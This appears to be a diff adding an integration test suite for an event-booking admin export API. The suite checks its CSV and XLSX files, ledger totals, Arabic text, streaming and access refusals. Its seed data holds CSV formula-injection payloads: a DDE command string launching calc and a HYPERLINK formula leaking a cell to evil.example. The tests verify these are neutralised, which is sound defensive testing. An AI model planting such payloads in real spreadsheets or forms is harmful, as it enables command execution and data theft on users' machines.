@@ -1,0 +1,775 @@
+import { randomUUID } from "node:crypto";
+import { eq, sql } from "drizzle-orm";
+import ExcelJS from "exceljs";
+import { beforeAll, describe, expect, it } from "vitest";
+import { getDb } from "@/db/client";
+import {
+  booths,
+  contactMessages,
+  events,
+  newsletterSubscribers,
+  orderItems,
+  orders,
+  payments,
+  refunds,
+  seats,
+  tickets,
+  vendors,
+} from "@/db/schema";
+import {
+  anonymousBrowser,
+  createOrganiser,
+  insertBoothEvent,
+  signInAs,
+  type SignedIn,
+} from "../support/fixtures";
+import { api, read } from "../support/requests";
+
+// GET /api/admin/v1/exports/{name} on a known data set: booths booked by a vendor whose line of
+// business is a spreadsheet formula and by a vendor whose names are Arabic, orders paid by card,
+// cheque and e-Transfer with a refund and an organiser's charge, 3,000 more orders so the files
+// take several pages, tickets (one voided), and an order of another event that must not count.
+
+type Db = Awaited<ReturnType<typeof getDb>>;
+
+const INJECTED = "=cmd|' /C calc'!A0";
+const ARABIC_VENDOR = "حرف الخوري";
+const ARABIC_CONTACT = "سميرة الخوري";
+const ARABIC_HOLDER = "ليلى حداد";
+const BULK_ORDERS = 3000;
+
+async function insertAccount(db: Db, values: { name: string; contact?: string; lob?: string }) {
+  const email = `export.${randomUUID().slice(0, 8)}@example.com`;
+  const [row] = await db
+    .insert(vendors)
+    .values({
+      email,
+      role: "vendor",
+      contactName: values.contact ?? values.name,
+      legalName: values.name,
+      lob: values.lob ?? values.name,
+      city: "Toronto",
+      phone: "+1 416-555-0199",
+      passwordHash: "unused",
+    })
+    .returning({ id: vendors.id });
+  return { vendorId: row!.id, vendorName: values.name, email };
+}
+
+type OrderRow = typeof orders.$inferInsert;
+
+const boothOrder = (
+  vendorId: number,
+  eventId: number,
+  fields: Partial<OrderRow> & Pick<OrderRow, "status" | "paidCents">,
+): OrderRow => {
+  const subtotalCents = fields.subtotalCents ?? 45000;
+  const feesCents = fields.feesCents ?? 1575;
+  const chargesCents = fields.chargesCents ?? 0;
+  const taxCents = fields.taxCents ?? 6055;
+  const totalCents = subtotalCents + feesCents + chargesCents + taxCents;
+  return {
+    vendorId,
+    eventId,
+    checkoutType: "BOOTH_CART",
+    subtotalCents,
+    feesCents,
+    chargesCents,
+    taxCents,
+    totalCents,
+    balanceCents: totalCents - fields.paidCents!,
+    ...fields,
+  };
+};
+
+async function insertOrder(db: Db, values: OrderRow) {
+  const [row] = await db.insert(orders).values(values).returning({ id: orders.id });
+  return row!.id;
+}
+
+async function insertPayment(db: Db, values: typeof payments.$inferInsert) {
+  const [row] = await db.insert(payments).values(values).returning({ id: payments.id });
+  return row!.id;
+}
+
+const exportRequest = (name: string, query: string, browser?: SignedIn) =>
+  api(
+    new Request(`http://localhost/api/admin/v1/exports/${name}${query}`, {
+      headers: browser ? { cookie: browser.cookie } : {},
+    }),
+  );
+
+/** The file's text with its byte order mark kept (Response.text() drops it). */
+async function textOf(response: Response) {
+  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
+}
+
+/** RFC 4180: quoted fields with doubled quotes, CRLF between records. */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let field = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ",") {
+      record.push(field);
+      field = "";
+    } else if (c === "\r" && text[i + 1] === "\n") {
+      record.push(field);
+      records.push(record);
+      record = [];
+      field = "";
+      i++;
+    } else field += c;
+  }
+  if (field || record.length) throw new Error("the last record has no CRLF");
+  return records;
+}
+
+/** A CSV download as objects keyed by its header; the BOM checked and dropped. */
+async function csvRecords(response: Response) {
+  expect(response.status).toBe(200);
+  const text = await textOf(response);
+  expect(text.startsWith("\uFEFF")).toBe(true);
+  const [header, ...rows] = parseCsv(text.slice(1));
+  return {
+    header: header!,
+    rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))),
+  };
+}
+
+/** An XLSX download's one sheet, as rows keyed by its header (cells as exceljs reads them). */
+async function xlsxRecords(response: Response) {
+  expect(response.status).toBe(200);
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(await response.arrayBuffer());
+  const sheet = workbook.worksheets[0]!;
+  const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
+  const rows: Record<string, ExcelJS.Cell>[] = [];
+  sheet.eachRow((row, n) => {
+    if (n > 1) rows.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1)])));
+  });
+  return { header, rows };
+}
+
+const dollars = (text: string) => Math.round(Number(text) * 100);
+const sumCents = (rows: Record<string, string>[], column: string) =>
+  rows.reduce((total, r) => total + (r[column] ? dollars(r[column]) : 0), 0);
+
+async function scalar(db: Db, query: ReturnType<typeof sql>) {
+  const result = await db.execute(query);
+  const rows = (Array.isArray(result) ? result : (result as { rows: unknown[] }).rows) as {
+    n: string | number | null;
+  }[];
+  return Number(rows[0]!.n ?? 0);
+}
+
+let organiser: SignedIn;
+let vendorBrowser: SignedIn;
+let eventId: number;
+let eventName: string;
+let ids: Record<string, number>;
+let injected: { vendorId: number; email: string };
+let arabic: { vendorId: number; email: string };
+let buyer: { vendorId: number; email: string };
+let contactMarker: string;
+let subscriberEmail: string;
+
+beforeAll(async () => {
+  const db = await getDb();
+  organiser = await createOrganiser(db, "Export Office");
+  const someone = await insertAccount(db, { name: "Just A Vendor" });
+  vendorBrowser = await signInAs(someone);
+  injected = await insertAccount(db, { name: "Formula Foods", lob: INJECTED });
+  arabic = await insertAccount(db, { name: ARABIC_VENDOR, contact: ARABIC_CONTACT });
+  buyer = await insertAccount(db, { name: "Ticket Buyer", contact: "Nadia Haddad" });
+  const bulk = await insertAccount(db, { name: "Bulk Vendor" });
+
+  eventName = `Summer Export Festival ${randomUUID().slice(0, 6)}`;
+  const fixture = await insertBoothEvent(db, eventName, [45000, 45000, 45000, 45000]);
+  eventId = fixture.eventId;
+  await db.update(events).set({ hasSeating: true }).where(eq(events.id, eventId));
+  const [b1, b2, b3, b4] = fixture.booths;
+  await db
+    .update(booths)
+    .set({ status: "BOOKED", vendorId: injected.vendorId, lob: INJECTED })
+    .where(eq(booths.id, b1!.id));
+  // a booth without a line of its own shows the vendor's
+  await db
+    .update(booths)
+    .set({ status: "BOOKED", vendorId: arabic.vendorId })
+    .where(eq(booths.id, b2!.id));
+  await db.update(booths).set({ status: "RESERVED" }).where(eq(booths.id, b3!.id));
+  const other = await insertBoothEvent(db, `Other ${randomUUID()}`, [10000]);
+
+  ids = {};
+  // Formula Foods: paid in full by card with a $100 refund; and an order refunded in full.
+  ids.card = await insertOrder(
+    db,
+    boothOrder(injected.vendorId, eventId, {
+      status: "PAID",
+      paidCents: 52630,
+      refundedCents: 10000,
+      discountCents: 5000,
+      couponCode: "SUMMER10",
+    }),
+  );
+  const cardPayment = await insertPayment(db, {
+    orderId: ids.card,
+    kind: "INITIAL",
+    method: "STRIPE",
+    stripeSessionId: `cs_test_${randomUUID()}`,
+    paymentIntentId: "pi_card_1",
+    amountCents: 52630,
+    status: "PAID",
+  });
+  await db.insert(refunds).values({
+    orderId: ids.card,
+    paymentId: cardPayment,
+    amountCents: 10000,
+    reason: "Smaller booth",
+    status: "SUCCEEDED",
+    stripeRefundId: "re_card_1",
+  });
+  await db.insert(orderItems).values([
+    { orderId: ids.card, kind: "BOOTH", boothId: b1!.id, name: "X-01", unitPriceCents: 25000 },
+    { orderId: ids.card, kind: "BOOTH", boothId: b4!.id, name: "X-04", unitPriceCents: 25000 },
+  ]);
+  ids.refunded = await insertOrder(
+    db,
+    boothOrder(injected.vendorId, eventId, {
+      status: "REFUNDED",
+      subtotalCents: 6000,
+      feesCents: 210,
+      taxCents: 807,
+      paidCents: 7017,
+      refundedCents: 7017,
+    }),
+  );
+  const refundedPayment = await insertPayment(db, {
+    orderId: ids.refunded,
+    kind: "INITIAL",
+    stripeSessionId: `cs_test_${randomUUID()}`,
+    paymentIntentId: "pi_refunded_1",
+    amountCents: 7017,
+    status: "PAID",
+  });
+  await db.insert(refunds).values([
+    {
+      orderId: ids.refunded,
+      paymentId: refundedPayment,
+      amountCents: 4000,
+      reason: "Event day cancelled",
+      status: "SUCCEEDED",
+      stripeRefundId: "re_refunded_1",
+    },
+    // asked, not yet settled: the order counts it as given back already
+    {
+      orderId: ids.refunded,
+      paymentId: refundedPayment,
+      amountCents: 3017,
+      reason: "Event day cancelled",
+      status: "PENDING",
+      stripeRefundId: "re_refunded_2",
+    },
+    // a refund that failed gave nothing back
+    {
+      orderId: ids.refunded,
+      paymentId: refundedPayment,
+      amountCents: 500,
+      reason: "Tried twice",
+      status: "FAILED",
+    },
+  ]);
+  // paid after its hold had lapsed and someone else had the booth: refunded at once, never counted
+  ids.late = await insertOrder(
+    db,
+    boothOrder(injected.vendorId, eventId, { status: "REFUNDED", paidCents: 0 }),
+  );
+  await insertPayment(db, {
+    orderId: ids.late,
+    kind: "INITIAL",
+    stripeSessionId: `cs_test_${randomUUID()}`,
+    paymentIntentId: "pi_late_1",
+    amountCents: 52630,
+    status: "REFUNDED",
+  });
+
+  // The Arabic vendor: a deposit by cheque and e-Transfer with an organiser's charge; an expired
+  // checkout; and a paid order of another event.
+  ids.deposit = await insertOrder(
+    db,
+    boothOrder(arabic.vendorId, eventId, {
+      status: "PARTIALLY_PAID",
+      chargesCents: 1000,
+      taxCents: 6185,
+      paidCents: 20000,
+    }),
+  );
+  await insertPayment(db, {
+    orderId: ids.deposit,
+    kind: "INITIAL",
+    method: "CHEQUE",
+    reference: "CHQ-1001",
+    amountCents: 15000,
+    status: "PAID",
+  });
+  await insertPayment(db, {
+    orderId: ids.deposit,
+    kind: "BALANCE",
+    method: "ETRANSFER",
+    reference: "ET-77",
+    amountCents: 5000,
+    status: "PAID",
+  });
+  await insertPayment(db, {
+    orderId: ids.deposit,
+    kind: "BALANCE",
+    stripeSessionId: `cs_test_${randomUUID()}`,
+    amountCents: 33760,
+    status: "EXPIRED",
+  });
+  ids.expired = await insertOrder(
+    db,
+    boothOrder(arabic.vendorId, eventId, { status: "EXPIRED", paidCents: 0 }),
+  );
+  ids.otherEvent = await insertOrder(
+    db,
+    boothOrder(arabic.vendorId, other.eventId, { status: "PAID", paidCents: 52630 }),
+  );
+  await insertPayment(db, {
+    orderId: ids.otherEvent,
+    kind: "INITIAL",
+    stripeSessionId: `cs_test_${randomUUID()}`,
+    amountCents: 52630,
+    status: "PAID",
+  });
+
+  // Tickets: two seats sold to one buyer, one of the tickets voided.
+  const seatRows = await db
+    .insert(seats)
+    .values(
+      [1, 2].map((column) => ({
+        eventId,
+        row: 1,
+        column,
+        rowType: "VIP",
+        priceCents: 5000,
+        status: "SOLD" as const,
+      })),
+    )
+    .returning({ id: seats.id });
+  ids.tickets = await insertOrder(db, {
+    vendorId: buyer.vendorId,
+    eventId,
+    checkoutType: "TICKETS",
+    status: "PAID",
+    subtotalCents: 10000,
+    feesCents: 290,
+    taxCents: 1300,
+    totalCents: 11590,
+    paidCents: 11590,
+    balanceCents: 0,
+  });
+  await insertPayment(db, {
+    orderId: ids.tickets,
+    kind: "INITIAL",
+    stripeSessionId: `cs_test_${randomUUID()}`,
+    amountCents: 11590,
+    status: "PAID",
+  });
+  await db.insert(orderItems).values(
+    seatRows.map((s, i) => ({
+      orderId: ids.tickets!,
+      kind: "SEAT" as const,
+      seatId: s.id,
+      name: `A-${i + 1}`,
+      unitPriceCents: 5000,
+    })),
+  );
+  await db.insert(tickets).values(
+    seatRows.map((s, i) => ({
+      orderId: ids.tickets!,
+      seatId: s.id,
+      eventId,
+      seatLabel: `A-${i + 1}`,
+      holderName: ARABIC_HOLDER,
+      voidedAt: i === 1 ? new Date("2030-06-01T16:00:00Z") : null,
+    })),
+  );
+
+  // Enough orders for several pages: paid, deposits, expired and cancelled, as the bench seeds.
+  await db.execute(sql`
+    insert into orders (vendor_id, checkout_type, status, subtotal_cents, fees_cents, tax_cents,
+      total_cents, paid_cents, balance_cents, event_id)
+    select ${bulk.vendorId}, 'BOOTH_CART',
+      (array['PAID', 'PARTIALLY_PAID', 'EXPIRED', 'CANCELLED'])[1 + n % 4],
+      45000, 1575, 6055, 52630,
+      case n % 4 when 0 then 52630 when 1 then 20000 else 0 end,
+      case n % 4 when 0 then 0 when 1 then 32630 else 52630 end,
+      ${eventId}
+    from generate_series(1, ${BULK_ORDERS}) n`);
+  await db.execute(sql`
+    insert into payments (order_id, kind, amount_cents, status, stripe_session_id, payment_intent_id)
+    select id, 'INITIAL', paid_cents, 'PAID', 'cs_bulk_' || id, 'pi_bulk_' || id from orders
+    where event_id = ${eventId} and vendor_id = ${bulk.vendorId} and paid_cents > 0`);
+
+  contactMarker = randomUUID();
+  await db.insert(contactMessages).values({
+    name: "نور",
+    email: "noor@example.com",
+    subject: `=HYPERLINK("http://evil.example/?"&A1,"Click") ${contactMarker}`,
+    message: "أريد حجز كشك في المهرجان",
+  });
+  subscriberEmail = `@subscriber.${randomUUID().slice(0, 8)}@example.com`;
+  await db.insert(newsletterSubscribers).values({ email: subscriberEmail });
+});
+
+const HEADERS = {
+  vendors: ["Booth", "Section", "Vendor", "LOB", "Contact", "Phone", "E-mail", "Paid", "Balance"],
+  orders: [
+    "Order",
+    "Placed",
+    "Status",
+    "Vendor",
+    "E-mail",
+    "Items",
+    "Coupon",
+    "Subtotal",
+    "Discount",
+    "Fees",
+    "Charges",
+    "HST",
+    "Total",
+    "Paid",
+    "Refunded",
+    "Balance",
+    "Method",
+    "Reference",
+    "Stripe session",
+    "Payment intent",
+    "Stripe refund",
+  ],
+  tickets: [
+    "Seat",
+    "Ticket holder",
+    "Buyer",
+    "E-mail",
+    "Order",
+    "Seat price",
+    "Order paid",
+    "Issued",
+    "Voided",
+    "Ticket",
+  ],
+  contacts: ["Received", "Name", "E-mail", "Subject", "Message"],
+  newsletter: ["E-mail", "Subscribed"],
+};
+
+describe("export files", () => {
+  it.each(Object.entries(HEADERS))(
+    "%s: a CSV and an XLSX file with the header row, sent as attachments",
+    async (kind, header) => {
+      const csv = await exportRequest(`${kind}.csv`, `?eventId=${eventId}`, organiser);
+      expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+      expect(csv.headers.get("cache-control")).toBe("no-store");
+      const slug = eventName.toLowerCase().replace(/ /g, "-");
+      const name =
+        kind === "contacts" || kind === "newsletter" ? kind : `${kind}-${slug.slice(0, 40)}`;
+      expect(csv.headers.get("content-disposition")).toMatch(
+        new RegExp(`^attachment; filename="${name}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
+      );
+      expect((await csvRecords(csv)).header).toEqual(header);
+
+      const xlsx = await exportRequest(`${kind}.xlsx`, `?eventId=${eventId}`, organiser);
+      expect(xlsx.headers.get("content-type")).toBe(
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+      );
+      expect(xlsx.headers.get("content-disposition")).toMatch(
+        new RegExp(`^attachment; filename="${name}-\\d{4}-\\d{2}-\\d{2}\\.xlsx"$`),
+      );
+      expect((await xlsxRecords(xlsx)).header).toEqual(header);
+    },
+  );
+
+  it("orders: every order of the event, and the paid, refunded and owed totals equal the ledger", async () => {
+    const db = await getDb();
+    const { rows } = await csvRecords(
+      await exportRequest("orders.csv", `?eventId=${eventId}`, organiser),
+    );
+    expect(rows).toHaveLength(BULK_ORDERS + 6);
+    expect(rows.map((r) => Number(r.Order))).not.toContain(ids.otherEvent);
+
+    // the ledger: payments that came in, refunds given back (all but the failed), and the
+    // dashboard's money collected (net of refunds) and balances outstanding
+    const paidIn = await scalar(
+      db,
+      sql`select sum(p.amount_cents) as n from payments p join orders o on o.id = p.order_id
+        where o.event_id = ${eventId} and p.status = 'PAID'`,
+    );
+    const givenBack = await scalar(
+      db,
+      sql`select sum(r.amount_cents) as n from refunds r join orders o on o.id = r.order_id
+        where o.event_id = ${eventId} and r.status <> 'FAILED'`,
+    );
+    const dashboard = await read(
+      await api(
+        new Request(`http://localhost/api/admin/v1/dashboard?eventId=${eventId}`, {
+          headers: { cookie: organiser.cookie },
+        }),
+      ),
+    );
+    const paid = sumCents(rows, "Paid");
+    const refunded = sumCents(rows, "Refunded");
+    expect(paid).toBe(paidIn);
+    expect(refunded).toBe(givenBack);
+    expect(refunded).toBe(10000 + 7017);
+    expect(paid - refunded).toBe(Math.round(dashboard.payload.moneyCollected * 100));
+    expect(sumCents(rows, "Balance")).toBe(Math.round(dashboard.payload.balancesOutstanding * 100));
+
+    const byId = new Map(rows.map((r) => [Number(r.Order), r]));
+    expect(byId.get(ids.card!)).toMatchObject({
+      Status: "PAID",
+      Vendor: "Formula Foods",
+      "E-mail": injected.email,
+      Items: "X-01, X-04",
+      Coupon: "SUMMER10",
+      Subtotal: "450.00",
+      Discount: "50.00",
+      Fees: "15.75",
+      Charges: "0.00",
+      HST: "60.55",
+      Total: "526.30",
+      Paid: "526.30",
+      Refunded: "100.00",
+      Balance: "0.00",
+      Method: "STRIPE",
+      Reference: "",
+      "Payment intent": "pi_card_1",
+      "Stripe refund": "re_card_1",
+    });
+    expect(byId.get(ids.card!)!["Stripe session"]).toMatch(/^cs_test_/);
+    expect(byId.get(ids.card!)!.Placed).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
+    expect(byId.get(ids.deposit!)).toMatchObject({
+      Status: "PARTIALLY_PAID",
+      Vendor: ARABIC_VENDOR,
+      Charges: "10.00",
+      HST: "61.85",
+      Total: "537.60",
+      Paid: "200.00",
+      Balance: "337.60",
+      // settled payments only: the expired balance checkout is not listed
+      Method: "CHEQUE, ETRANSFER",
+      Reference: "CHQ-1001, ET-77",
+      "Stripe session": "",
+    });
+    expect(byId.get(ids.refunded!)).toMatchObject({
+      Status: "REFUNDED",
+      Paid: "70.17",
+      Refunded: "70.17",
+      Balance: "0.00",
+      "Stripe refund": "re_refunded_1, re_refunded_2",
+    });
+    expect(byId.get(ids.late!)).toMatchObject({
+      Status: "REFUNDED",
+      Paid: "0.00",
+      Refunded: "0.00",
+      Balance: "0.00",
+      Method: "STRIPE",
+      "Payment intent": "pi_late_1",
+    });
+    // an expired checkout owes nothing
+    expect(byId.get(ids.expired!)).toMatchObject({
+      Status: "EXPIRED",
+      Paid: "0.00",
+      Balance: "0.00",
+    });
+  });
+
+  it("orders.xlsx: amounts are currency cells in dollars with the same totals", async () => {
+    const csv = await csvRecords(
+      await exportRequest("orders.csv", `?eventId=${eventId}`, organiser),
+    );
+    const { rows } = await xlsxRecords(
+      await exportRequest("orders.xlsx", `?eventId=${eventId}`, organiser),
+    );
+    expect(rows).toHaveLength(csv.rows.length);
+    for (const column of ["Paid", "Refunded", "Balance"]) {
+      const cents = rows.reduce(
+        (total, r) => total + Math.round((r[column]!.value as number) * 100),
+        0,
+      );
+      expect(cents, column).toBe(sumCents(csv.rows, column));
+    }
+    const card = rows.find((r) => r.Order!.value === ids.card)!;
+    expect(card.Total!.type).toBe(ExcelJS.ValueType.Number);
+    expect(card.Total!.value).toBe(526.3);
+    expect(card.Total!.numFmt).toBe('"$"#,##0.00');
+    expect(card.Placed!.value).toBeInstanceOf(Date);
+  });
+
+  it("vendors: the booked booths with each vendor's paid and owed money for the event", async () => {
+    const { rows } = await csvRecords(
+      await exportRequest("vendors.csv", `?eventId=${eventId}`, organiser),
+    );
+    expect(rows).toEqual([
+      {
+        Booth: "X-01",
+        Section: "Test section",
+        Vendor: "Formula Foods",
+        // the formula is text: an apostrophe goes before it
+        LOB: `'${INJECTED}`,
+        Contact: "Formula Foods",
+        Phone: "'+1 416-555-0199",
+        "E-mail": injected.email,
+        // the PAID order; the refunded one does not count
+        Paid: "526.30",
+        Balance: "0.00",
+      },
+      {
+        Booth: "X-02",
+        Section: "Test section",
+        Vendor: ARABIC_VENDOR,
+        LOB: ARABIC_VENDOR,
+        Contact: ARABIC_CONTACT,
+        Phone: "'+1 416-555-0199",
+        "E-mail": arabic.email,
+        // the deposit only: not the expired checkout, not the other event's order
+        Paid: "200.00",
+        Balance: "337.60",
+      },
+    ]);
+  });
+
+  it("vendors.xlsx: the injected formula is a text cell and Arabic survives", async () => {
+    const { rows } = await xlsxRecords(
+      await exportRequest("vendors.xlsx", `?eventId=${eventId}`, organiser),
+    );
+    expect(rows).toHaveLength(2);
+    const [formula, arabicRow] = rows;
+    expect(formula!.LOB!.type).toBe(ExcelJS.ValueType.String);
+    expect(formula!.LOB!.formula).toBeUndefined();
+    expect(formula!.LOB!.value).toBe(INJECTED);
+    expect(arabicRow!.Vendor!.value).toBe(ARABIC_VENDOR);
+    expect(arabicRow!.Contact!.value).toBe(ARABIC_CONTACT);
+    expect(arabicRow!.Paid!.value).toBe(200);
+    expect(arabicRow!.Balance!.value).toBe(337.6);
+  });
+
+  it("tickets: one row per ticket by seat, voided ones marked", async () => {
+    const { rows } = await csvRecords(
+      await exportRequest("tickets.csv", `?eventId=${eventId}`, organiser),
+    );
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toMatchObject({
+      Seat: "A-1",
+      "Ticket holder": ARABIC_HOLDER,
+      Buyer: "Nadia Haddad",
+      "E-mail": buyer.email,
+      Order: String(ids.tickets),
+      "Seat price": "50.00",
+      "Order paid": "115.90",
+      Voided: "",
+    });
+    expect(rows[1]).toMatchObject({ Seat: "A-2", Voided: "2030-06-01 12:00" });
+  });
+
+  it("contacts and newsletter: the site's lists, with or without an eventId", async () => {
+    const contacts = await csvRecords(await exportRequest("contacts.csv", "", organiser));
+    const message = contacts.rows.find((r) => r.Subject!.includes(contactMarker));
+    expect(message).toMatchObject({
+      Name: "نور",
+      Subject: `'=HYPERLINK("http://evil.example/?"&A1,"Click") ${contactMarker}`,
+      Message: "أريد حجز كشك في المهرجان",
+    });
+    const subscribers = await csvRecords(
+      await exportRequest("newsletter.csv", `?eventId=${eventId}`, organiser),
+    );
+    expect(subscribers.rows.map((r) => r["E-mail"])).toContain(`'${subscriberEmail}`);
+    const xlsx = await xlsxRecords(await exportRequest("newsletter.xlsx", "", organiser));
+    expect(xlsx.rows.map((r) => r["E-mail"]!.value)).toContain(subscriberEmail);
+  });
+
+  it("is read from the database while it downloads: an order placed meanwhile is in the file", async () => {
+    const response = await exportRequest("orders.csv", `?eventId=${eventId}`, organiser);
+    const reader = response.body!.getReader();
+    const chunks: Uint8Array[] = [];
+    for (let i = 0; i < 2; i++) chunks.push((await reader.read()).value!);
+    const db = await getDb();
+    const late = await insertOrder(
+      db,
+      boothOrder(arabic.vendorId, eventId, { status: "CANCELLED", paidCents: 0 }),
+    );
+    for (;;) {
+      const chunk = await reader.read();
+      if (chunk.done) break;
+      chunks.push(chunk.value);
+    }
+    const { rows } = await csvRecords(new Response(new Blob(chunks as BlobPart[])));
+    expect(rows.map((r) => Number(r.Order))).toContain(late);
+    await db.delete(orders).where(eq(orders.id, late));
+  });
+
+  it("a download the client abandons stops without an error", async () => {
+    for (const name of ["orders.csv", "orders.xlsx"]) {
+      const response = await exportRequest(name, `?eventId=${eventId}`, organiser);
+      const reader = response.body!.getReader();
+      await reader.read();
+      await reader.cancel();
+    }
+    const again = await exportRequest("vendors.csv", `?eventId=${eventId}`, organiser);
+    expect((await csvRecords(again)).rows).toHaveLength(2);
+  });
+});
+
+describe("refusals", () => {
+  it("asks an anonymous caller to log in and refuses a vendor", async () => {
+    for (const name of ["orders.csv", "contacts.xlsx"]) {
+      const anonymous = await exportRequest(name, `?eventId=${eventId}`, anonymousBrowser());
+      expect(anonymous.status).toBe(401);
+      expect((await read(anonymous)).status).toBe("UNAUTHORIZED");
+      const vendor = await exportRequest(name, `?eventId=${eventId}`, vendorBrowser);
+      expect(vendor.status).toBe(403);
+      expect((await read(vendor)).status).toBe("FORBIDDEN");
+    }
+  });
+
+  it("answers NOT_FOUND for an unknown event", async () => {
+    const answer = await read(
+      await exportRequest("vendors.xlsx", "?eventId=2147483647", organiser),
+    );
+    expect(answer).toMatchObject({ code: 404, status: "NOT_FOUND", payload: "Event not found" });
+  });
+
+  it.each(["orders.pdf", "secrets.csv", "orders", "orders.csv.xlsx", "ORDERS.CSV"])(
+    "answers BAD_REQUEST for the name %s",
+    async (name) => {
+      const answer = await read(await exportRequest(name, `?eventId=${eventId}`, organiser));
+      expect(answer).toMatchObject({
+        code: 400,
+        status: "BAD_REQUEST",
+        payload:
+          "The export must be vendors, orders, tickets, contacts or newsletter, as .csv or .xlsx.",
+      });
+    },
+  );
+
+  it("answers BAD_REQUEST for a malformed or missing eventId", async () => {
+    const malformed = await read(await exportRequest("orders.csv", "?eventId=abc", organiser));
+    expect(malformed).toMatchObject({ code: 400, status: "BAD_REQUEST" });
+    const missing = await read(await exportRequest("tickets.xlsx", "", organiser));
+    expect(missing).toMatchObject({
+      code: 400,
+      status: "BAD_REQUEST",
+      payload: "eventId is required for this export.",
+    });
+  });
+});
